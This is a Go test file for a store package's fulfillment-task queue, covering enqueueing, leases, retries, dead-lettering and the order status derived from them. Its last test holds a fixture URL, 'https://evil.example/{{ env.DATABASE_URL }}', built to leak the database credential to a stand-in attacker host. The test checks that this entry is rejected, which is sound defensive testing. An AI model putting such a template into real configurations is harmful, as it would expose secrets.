package store_test

import (
	"context"
	"encoding/json"
	"errors"
	"testing"
	"time"

	"github.com/jmoiron/sqlx"

	"github.com/smplat/smplat/store"
	"github.com/smplat/smplat/store/storetest"
)

// seedConfig mirrors the seed product's two http tasks (SPEC §11).
const seedConfig = `{"tasks": [
 {"type": "analytics_collection", "title": "Baseline analytics synchronization",
  "description": "Collect current Instagram metrics.", "schedule_offset_minutes": 5, "max_retries": 3,
  "payload": {"playbook": "instagram-baseline-analytics"},
  "execution": {"method": "POST", "url": "{{ env.FULFILLMENT_BASE_URL }}/v1/instagram/analytics/sync",
    "headers": {"X-Order-Id": "{{ order.id }}"}, "environment_keys": ["FULFILLMENT_BASE_URL"]}},
 {"type": "content_promotion", "title": "Campaign activation webhook", "schedule_offset_minutes": 30,
  "max_retries": 5, "payload": {"playbook": "instagram-campaign-activation"},
  "execution": {"url": "{{ env.FULFILLMENT_BASE_URL }}/v1/campaigns/activate"}}
]}`

// fixture inserts a product (config may be empty), an order in status and n
// items of it, with plain SQL; it returns the order id and item ids.
func fixture(t *testing.T, db *sqlx.DB, config, status string, n int) (string, []string) {
	t.Helper()
	ctx := context.Background()
	var cfg any
	if config != "" {
		cfg = config
	}
	var productID, orderID string
	if err := db.GetContext(ctx, &productID, `INSERT INTO products (slug, title, category, base_price, status,
		fulfillment_config) VALUES (gen_random_uuid()::text, 'Instagram Growth Service', 'social_media', 99, 'active',
		$1::jsonb) RETURNING id`, cfg); err != nil {
		t.Fatal(err)
	}
	if err := db.GetContext(ctx, &orderID, `INSERT INTO orders (status, subtotal, total, currency, notes)
		VALUES ($1, 1277.40, 1277.40, 'EUR', 'rush') RETURNING id`, status); err != nil {
		t.Fatal(err)
	}
	var items []string
	for i := 0; i < n; i++ {
		var id string
		if err := db.GetContext(ctx, &id, `INSERT INTO order_items (order_id, product_id, product_title, quantity,
			unit_price, total_price, selected_options, attributes) VALUES ($1, $2, 'Instagram Growth Service', 2,
			638.70, 1277.40, '{"options": []}', '{"customFields": [{"id": "h", "value": "@brand"}]}') RETURNING id`,
			orderID, productID); err != nil {
			t.Fatal(err)
		}
		items = append(items, id)
	}
	return orderID, items
}

func enqueue(t *testing.T, s *store.Store, orderID string, now time.Time) int {
	t.Helper()
	var n int
	err := s.InTx(context.Background(), func(tx *sqlx.Tx) error {
		var err error
		n, err = store.EnqueueTasksTx(context.Background(), tx, orderID, now)
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return n
}

func orderStatus(t *testing.T, db *sqlx.DB, orderID string) string {
	t.Helper()
	var st string
	if err := db.Get(&st, `SELECT status FROM orders WHERE id = $1`, orderID); err != nil {
		t.Fatal(err)
	}
	return st
}

func wantCode(t *testing.T, err error, code store.Code) {
	t.Helper()
	e, ok := store.AsError(err)
	if !ok || e.Code != code {
		t.Fatalf("got %v, want %s", err, code)
	}
}

func TestEnqueueTasksConfiguredProduct(t *testing.T) {
	t.Parallel()
	db := storetest.New(t)
	s := store.New(db)
	orderID, items := fixture(t, db, seedConfig, "processing", 2)
	now := time.Date(2030, 1, 2, 3, 4, 5, 0, time.UTC)
	if n := enqueue(t, s, orderID, now); n != 4 {
		t.Fatalf("created %d tasks, want 4", n)
	}
	if n := enqueue(t, s, orderID, now); n != 0 {
		t.Fatalf("second enqueue created %d tasks, want 0", n)
	}
	tasks, err := s.FindTasksByOrder(context.Background(), orderID)
	if err != nil {
		t.Fatal(err)
	}
	if len(tasks) != 4 {
		t.Fatalf("got %d tasks", len(tasks))
	}
	perItem := map[string]int{}
	for _, task := range tasks {
		perItem[task.OrderItemID]++
		if task.Status != store.TaskPending || task.ExecutionKind != store.ExecutionHTTP || task.OrderID != orderID {
			t.Errorf("task %+v", task)
		}
		var payload map[string]any
		if err := json.Unmarshal(task.Payload, &payload); err != nil {
			t.Fatal(err)
		}
		order := payload["order"].(map[string]any)
		item := payload["item"].(map[string]any)
		product := payload["product"].(map[string]any)
		if order["id"] != orderID || item["id"] != task.OrderItemID || product["slug"] == nil {
			t.Errorf("payload context: %s", task.Payload)
		}
		var exec map[string]any
		_ = json.Unmarshal(task.Execution, &exec)
		switch task.TaskType {
		case store.TaskAnalyticsCollection:
			if !task.ScheduledAt.Equal(now.Add(5*time.Minute)) || task.MaxRetries != 3 ||
				payload["playbook"] != "instagram-baseline-analytics" {
				t.Errorf("analytics task: %v %d %v", task.ScheduledAt, task.MaxRetries, payload["playbook"])
			}
			if exec["url"] != "{{ env.FULFILLMENT_BASE_URL }}/v1/instagram/analytics/sync" {
				t.Errorf("execution rendered or lost: %s", task.Execution)
			}
		case store.TaskContentPromotion:
			if !task.ScheduledAt.Equal(now.Add(30*time.Minute)) || task.MaxRetries != 5 {
				t.Errorf("promotion task: %v %d", task.ScheduledAt, task.MaxRetries)
			}
		default:
			t.Errorf("unexpected type %s", task.TaskType)
		}
	}
	for _, it := range items {
		if perItem[it] != 2 {
			t.Errorf("item %s has %d tasks", it, perItem[it])
		}
	}
}

func TestEnqueueTasksUnconfiguredProduct(t *testing.T) {
	t.Parallel()
	db := storetest.New(t)
	s := store.New(db)
	orderID, _ := fixture(t, db, "", "processing", 3)
	if n := enqueue(t, s, orderID, time.Now()); n != 3 {
		t.Fatalf("created %d, want 3", n)
	}
	tasks, _ := s.FindTasksByOrder(context.Background(), orderID)
	for _, task := range tasks {
		if task.TaskType != store.TaskManual || task.ExecutionKind != store.ExecutionManual ||
			task.Title != "Deliver Instagram Growth Service" || task.MaxRetries != store.DefaultMaxRetries {
			t.Errorf("task %+v", task)
		}
	}
	// Manual tasks are never claimed.
	got, err := s.ClaimTasks(context.Background(), "w", 10, time.Minute, time.Now().Add(time.Hour))
	if err != nil || len(got) != 0 {
		t.Fatalf("claimed %d manual tasks (%v)", len(got), err)
	}
}

func TestEnqueueTasksBadEntryBecomesManual(t *testing.T) {
	t.Parallel()
	db := storetest.New(t)
	s := store.New(db)
	orderID, _ := fixture(t, db, `{"tasks":[{"type":"teleport","title":"Beam"}]}`, "processing", 1)
	enqueue(t, s, orderID, time.Now())
	tasks, _ := s.FindTasksByOrder(context.Background(), orderID)
	if len(tasks) != 1 || tasks[0].ExecutionKind != store.ExecutionManual || tasks[0].Title != "Beam" {
		t.Fatalf("tasks %+v", tasks)
	}
	var p map[string]any
	_ = json.Unmarshal(tasks[0].Payload, &p)
	if p["config_error"] == nil {
		t.Errorf("no config_error in %s", tasks[0].Payload)
	}
	_, err := store.ParseFulfillmentConfig(store.JSON(`{"tasks":[{"type":"teleport","title":"Beam"}]}`))
	e, ok := store.AsError(err)
	if !ok || e.Code != store.CodeBadUserInput || e.Field != "fulfillmentConfig.tasks.0.type" {
		t.Errorf("ParseFulfillmentConfig: %v", err)
	}
	if _, err := store.ParseFulfillmentConfig(store.JSON(seedConfig)); err != nil {
		t.Errorf("seed config refused: %v", err)
	}
}

func TestTaskLifecycleDerivesOrderStatus(t *testing.T) {
	t.Parallel()
	db := storetest.New(t)
	s := store.New(db)
	ctx := context.Background()
	orderID, _ := fixture(t, db, seedConfig, "processing", 1)
	now := time.Now()
	enqueue(t, s, orderID, now.Add(-time.Hour))

	claimed, err := s.ClaimTasks(ctx, "w1", 10, time.Minute, now)
	if err != nil || len(claimed) != 2 {
		t.Fatalf("claimed %d (%v)", len(claimed), err)
	}
	if claimed[0].Attempt != 1 || claimed[0].Status != store.TaskInProgress || *claimed[0].LeaseOwner != "w1" {
		t.Fatalf("claimed %+v", claimed[0])
	}
	if st := orderStatus(t, db, orderID); st != "active" {
		t.Fatalf("order %s after claim, want active", st)
	}
	// A second worker finds nothing to claim.
	if again, _ := s.ClaimTasks(ctx, "w2", 10, time.Minute, now); len(again) != 0 {
		t.Fatalf("claimed twice")
	}
	// A stale lease changes nothing.
	stale := claimed[0].Lease()
	stale.Attempt = 7
	if err := s.CompleteTask(ctx, stale, store.JSON(`{}`), nil, now); !errors.Is(err, store.ErrLeaseLost) {
		t.Fatalf("stale complete: %v", err)
	}
	if err := s.ExtendLease(ctx, claimed[0].Lease(), now.Add(time.Hour)); err != nil {
		t.Fatal(err)
	}
	for _, task := range claimed {
		if err := s.CompleteTask(ctx, task.Lease(), store.JSON(`{"ok":true}`), nil, now); err != nil {
			t.Fatal(err)
		}
	}
	if err := s.CompleteTask(ctx, claimed[0].Lease(), store.JSON(`{}`), nil, now); !errors.Is(err, store.ErrLeaseLost) {
		t.Fatalf("second complete: %v", err)
	}
	if st := orderStatus(t, db, orderID); st != "completed" {
		t.Fatalf("order %s, want completed", st)
	}
	var events []struct {
		From  *string `db:"from_status"`
		To    string  `db:"to_status"`
		Actor string  `db:"actor"`
	}
	if err := db.Select(&events, `SELECT from_status, to_status, actor FROM order_status_events
		WHERE order_id = $1 ORDER BY id`, orderID); err != nil {
		t.Fatal(err)
	}
	if len(events) != 2 || events[0].To != "active" || events[1].To != "completed" || events[1].Actor != "worker" {
		t.Fatalf("events %+v", events)
	}
}

func TestFailTaskRetriesThenDeadLetters(t *testing.T) {
	t.Parallel()
	db := storetest.New(t)
	s := store.New(db)
	ctx := context.Background()
	orderID, _ := fixture(t, db, `{"tasks":[{"type":"follower_growth","title":"Grow","max_retries":2,
		"execution":{"url":"http://x"}}]}`, "processing", 1)
	now := time.Now()
	enqueue(t, s, orderID, now)
	for i := 0; i < 3; i++ {
		claimed, err := s.ClaimTasks(ctx, "w", 1, time.Minute, now.Add(time.Duration(i)*time.Hour))
		if err != nil || len(claimed) != 1 {
			t.Fatalf("round %d: claimed %d (%v)", i, len(claimed), err)
		}
		dl, err := s.FailTask(ctx, claimed[0].Lease(), store.TaskFailure{Error: "boom",
			RetryAt: now.Add(time.Duration(i)*time.Hour + time.Minute)}, now)
		if err != nil {
			t.Fatal(err)
		}
		if dl != (i == 2) {
			t.Fatalf("round %d: dead lettered %v", i, dl)
		}
		if i < 2 && orderStatus(t, db, orderID) != "processing" { // pending again: nothing started
			t.Fatalf("round %d: order %s", i, orderStatus(t, db, orderID))
		}
	}
	task, _ := s.FindTasksByOrder(ctx, orderID)
	var res map[string]any
	_ = json.Unmarshal(task[0].Result, &res)
	var hist []map[string]any
	_ = json.Unmarshal(task[0].History, &hist)
	if task[0].Status != store.TaskFailed || res["dead_letter"] != true || len(hist) != 3 || task[0].RetryCount != 2 {
		t.Fatalf("task %s result %s history %s", task[0].Status, task[0].Result, task[0].History)
	}
	if st := orderStatus(t, db, orderID); st != "on_hold" {
		t.Fatalf("order %s, want on_hold", st)
	}

	// Operator retry gives a fresh budget; the order leaves on_hold.
	if _, err := s.RetryTask(ctx, task[0].ID, "admin", "provider fixed"); err != nil {
		t.Fatal(err)
	}
	if st := orderStatus(t, db, orderID); st != "processing" {
		t.Fatalf("order %s after retry, want processing", st)
	}
	_, err := s.RetryTask(ctx, task[0].ID, "admin", "")
	wantCode(t, err, store.CodeConflict)
	_, err = s.RetryTask(ctx, "00000000-0000-0000-0000-000000000000", "admin", "")
	wantCode(t, err, store.CodeNotFound)
	c, err := s.CancelTask(ctx, task[0].ID, "admin", "not needed")
	if err != nil || c.Status != store.TaskCanceled {
		t.Fatalf("cancel: %v", err)
	}
	_, err = s.CancelTask(ctx, task[0].ID, "admin", "")
	wantCode(t, err, store.CodeConflict)
	// All tasks canceled: the order keeps its status.
	if st := orderStatus(t, db, orderID); st != "processing" {
		t.Fatalf("order %s after cancel", st)
	}
}

func TestManualTaskOperatorActions(t *testing.T) {
	t.Parallel()
	db := storetest.New(t)
	s := store.New(db)
	ctx := context.Background()
	orderID, _ := fixture(t, db, "", "processing", 2)
	enqueue(t, s, orderID, time.Now())
	tasks, _ := s.FindTasksByOrder(ctx, orderID)
	done, err := s.CompleteManualTask(ctx, tasks[0].ID, "admin", "delivered by hand")
	if err != nil || done.Status != store.TaskCompleted {
		t.Fatalf("complete: %v", err)
	}
	if st := orderStatus(t, db, orderID); st != "active" {
		t.Fatalf("order %s, want active", st)
	}
	_, err = s.CompleteManualTask(ctx, tasks[0].ID, "admin", "")
	wantCode(t, err, store.CodeConflict)
	failed, err := s.FailManualTask(ctx, tasks[1].ID, "admin", "customer unreachable")
	if err != nil || failed.Status != store.TaskFailed || *failed.ErrorMessage != "customer unreachable" {
		t.Fatalf("fail: %v", err)
	}
	if st := orderStatus(t, db, orderID); st != "on_hold" {
		t.Fatalf("order %s, want on_hold", st)
	}
	_, err = s.RetryTask(ctx, tasks[1].ID, "admin", "")
	wantCode(t, err, store.CodeConflict)
	var actor string
	_ = db.Get(&actor, `SELECT actor FROM order_status_events WHERE order_id = $1 ORDER BY id DESC LIMIT 1`, orderID)
	if actor != "admin" {
		t.Fatalf("actor %q", actor)
	}
}

func TestCanceledOrderStaysCanceled(t *testing.T) {
	t.Parallel()
	db := storetest.New(t)
	s := store.New(db)
	ctx := context.Background()
	orderID, _ := fixture(t, db, "", "canceled", 1)
	enqueue(t, s, orderID, time.Now())
	tasks, _ := s.FindTasksByOrder(ctx, orderID)
	if _, err := s.CompleteManualTask(ctx, tasks[0].ID, "admin", ""); err != nil {
		t.Fatal(err)
	}
	if st := orderStatus(t, db, orderID); st != "canceled" {
		t.Fatalf("order %s", st)
	}
}

func TestRescueParkReleaseAndQueueGauges(t *testing.T) {
	t.Parallel()
	db := storetest.New(t)
	s := store.New(db)
	ctx := context.Background()
	orderID, _ := fixture(t, db, `{"tasks":[{"type":"follower_growth","title":"A","max_retries":1,
		"execution":{"kind":"smm_panel","url":"http://x"}}]}`, "processing", 3)
	now := time.Now()
	enqueue(t, s, orderID, now.Add(-time.Minute))

	age, err := s.OldestDueTaskAge(ctx, now)
	if err != nil || age < 59*time.Second || age > 61*time.Second {
		t.Fatalf("age %v (%v)", age, err)
	}
	claimed, err := s.ClaimTasks(ctx, "dead", 3, time.Second, now)
	if err != nil || len(claimed) != 3 {
		t.Fatalf("claimed %d (%v)", len(claimed), err)
	}
	counts, _ := s.TaskStatusCounts(ctx)
	if counts[store.TaskInProgress] != 3 || counts[store.TaskFailed] != 0 || len(counts) != len(store.TaskStatuses) {
		t.Fatalf("counts %v", counts)
	}
	// Not yet expired.
	if n, _ := s.RescueExpiredTasks(ctx, now); n != 0 {
		t.Fatalf("rescued %d early", n)
	}
	later := now.Add(2 * time.Second)
	if n, err := s.RescueExpiredTasks(ctx, later); err != nil || n != 3 {
		t.Fatalf("rescued %d (%v)", n, err)
	}
	if err := s.CompleteTask(ctx, claimed[0].Lease(), store.JSON(`{}`), nil, later); !errors.Is(err, store.ErrLeaseLost) {
		t.Fatalf("stale complete after rescue: %v", err)
	}
	again, err := s.ClaimTasks(ctx, "live", 3, time.Minute, later)
	if err != nil || len(again) != 3 || again[0].Attempt != 2 || again[0].RetryCount != 1 {
		t.Fatalf("reclaimed %d (%v) %+v", len(again), err, again)
	}
	// Release restores the attempt; park needs an operator.
	if err := s.ReleaseTask(ctx, again[0].Lease(), nil, later); err != nil {
		t.Fatal(err)
	}
	if err := s.ParkTask(ctx, again[1].Lease(), "reply lost", nil, store.JSON(`{"add_sent_at":"x"}`), later); err != nil {
		t.Fatal(err)
	}
	if err := s.SnoozeTask(ctx, again[2].Lease(), later.Add(time.Hour), store.JSON(`{"order":1}`), "polling", later); err != nil {
		t.Fatal(err)
	}
	released, _ := s.FindTask(ctx, again[0].ID)
	parked, _ := s.FindTask(ctx, again[1].ID)
	snoozed, _ := s.FindTask(ctx, again[2].ID)
	if released.Status != store.TaskPending || released.Attempt != 1 || released.RetryCount != 1 {
		t.Errorf("released %+v", released)
	}
	if parked.Status != store.TaskParked || string(parked.State) != `{"add_sent_at": "x"}` {
		t.Errorf("parked %s %s", parked.Status, parked.State)
	}
	if snoozed.Status != store.TaskPending || snoozed.RetryCount != 1 || snoozed.ScheduledAt.Sub(later.Add(time.Hour)).Abs() > time.Millisecond {
		t.Errorf("snoozed %s retries %d at %v", snoozed.Status, snoozed.RetryCount, snoozed.ScheduledAt)
	}
	if st := orderStatus(t, db, orderID); st != "active" {
		t.Errorf("order %s with a parked task, want active", st)
	}
	// A second expiry with no retries left dead-letters.
	c, _ := s.ClaimTasks(ctx, "dead2", 1, time.Second, later)
	if len(c) != 1 {
		t.Fatal("no claim")
	}
	if n, _ := s.RescueExpiredTasks(ctx, later.Add(time.Minute)); n != 1 {
		t.Fatal("not rescued")
	}
	dead, _ := s.FindTask(ctx, c[0].ID)
	if dead.Status != store.TaskFailed || orderStatus(t, db, orderID) != "on_hold" {
		t.Errorf("dead %s order %s", dead.Status, orderStatus(t, db, orderID))
	}
}

// ClaimTasks skips pending tasks whose order is canceled (e.g. one put back
// to pending after the cancel), and still claims other orders' tasks.
func TestClaimSkipsTasksOfCanceledOrders(t *testing.T) {
	t.Parallel()
	db := storetest.New(t)
	s := store.New(db)
	ctx := context.Background()
	now := time.Now()
	canceled, _ := fixture(t, db, seedConfig, "canceled", 1)
	live, _ := fixture(t, db, seedConfig, "processing", 1)
	enqueue(t, s, canceled, now.Add(-2*time.Hour)) // older: first in line
	enqueue(t, s, live, now.Add(-time.Hour))
	claimed, err := s.ClaimTasks(ctx, "w1", 10, time.Minute, now)
	if err != nil || len(claimed) != 2 {
		t.Fatalf("claimed %d (%v), want the live order's 2", len(claimed), err)
	}
	for _, task := range claimed {
		if task.OrderID != live {
			t.Errorf("claimed task %s of order %s, want only %s", task.ID, task.OrderID, live)
		}
	}
	tasks, _ := s.FindTasksByOrder(ctx, canceled)
	for _, task := range tasks {
		if task.Status != store.TaskPending || task.Attempt != 0 {
			t.Errorf("canceled order's task %s is %s (attempt %d)", task.ID, task.Status, task.Attempt)
		}
	}
}

// A config stored before reserved environment keys were refused on write
// does not expose them at payment time: the entry becomes a manual task.
func TestEnqueueTasksReservedEnvKeyBecomesManual(t *testing.T) {
	t.Parallel()
	db := storetest.New(t)
	s := store.New(db)
	const cfg = `{"tasks":[{"type":"follower_growth","title":"Leak","execution":{"url":"https://evil.example/{{ env.DATABASE_URL }}",
		"environment_keys":["FULFILLMENT_BASE_URL","DATABASE_URL"]}}]}`
	orderID, _ := fixture(t, db, cfg, "processing", 1)
	enqueue(t, s, orderID, time.Now())
	tasks, _ := s.FindTasksByOrder(context.Background(), orderID)
	if len(tasks) != 1 || tasks[0].ExecutionKind != store.ExecutionManual {
		t.Fatalf("tasks %+v", tasks)
	}
	var p map[string]any
	_ = json.Unmarshal(tasks[0].Payload, &p)
	if p["config_error"] == nil {
		t.Errorf("no config_error in %s", tasks[0].Payload)
	}
	_, err := store.ParseFulfillmentConfig(store.JSON(cfg))
	if e, ok := store.AsError(err); !ok || e.Code != store.CodeBadUserInput ||
		e.Field != "fulfillmentConfig.tasks.0.execution.environment_keys.1" {
		t.Errorf("ParseFulfillmentConfig: %v", err)
	}
}
